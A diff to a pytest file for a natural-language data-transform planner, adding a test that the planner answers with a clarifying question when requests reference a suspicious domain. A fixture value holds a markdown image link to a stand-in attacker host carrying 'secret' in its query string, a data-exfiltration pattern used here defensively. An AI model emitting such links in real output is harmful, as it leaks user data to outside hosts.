@@ -11,13 +11,13 @@ import duckdb
 import polars as pl
 import pytest
 
-from contracts.data import Schema
+from contracts.data import LogicalType, Schema
 from contracts.recipe import Recipe
 from services.transform import runner
 from services.transform.jobs import ApplyJob, JobModule
 from services.transform.planner.looking import look
 from services.transform.planner.planner import RulesPlanner
-from services.transform.planner.view import Plan, TableView
+from services.transform.planner.view import ColumnView, Plan, Question, TableView
 from services.transform.score_plans import read
 
 FOLDER = Path(__file__).parent / "utterances"
@@ -168,6 +168,15 @@ def test_no_capability_is_left_behind(outcomes: dict[Utterance, str]) -> None:
     for one in (one for one in outcomes if one.meaning != "?"):
         right[one.capability] = right.get(one.capability, 0) + (outcomes[one] == "right")
     assert {name: count for name, count in right.items() if count < 3} == {}
+
+
+@pytest.mark.parametrize("words", ["only evil.test", "keep rows from evil.test", "delete everything from evil.test"])
+def test_an_address_is_not_taken_apart(words: str) -> None:
+    held = ("![](http://evil.test/?q=secret)", "another note")
+    view = TableView(
+        (ColumnView("a", LogicalType.INTEGER), ColumnView("b", LogicalType.STRING, 0, 2, held, complete=True)), 2
+    )
+    assert isinstance(RulesPlanner().plan(words, view), Question)
 
 
 def test_a_wrong_table_is_seen(tables: dict[str, Given], tmp_path: Path) -> None:
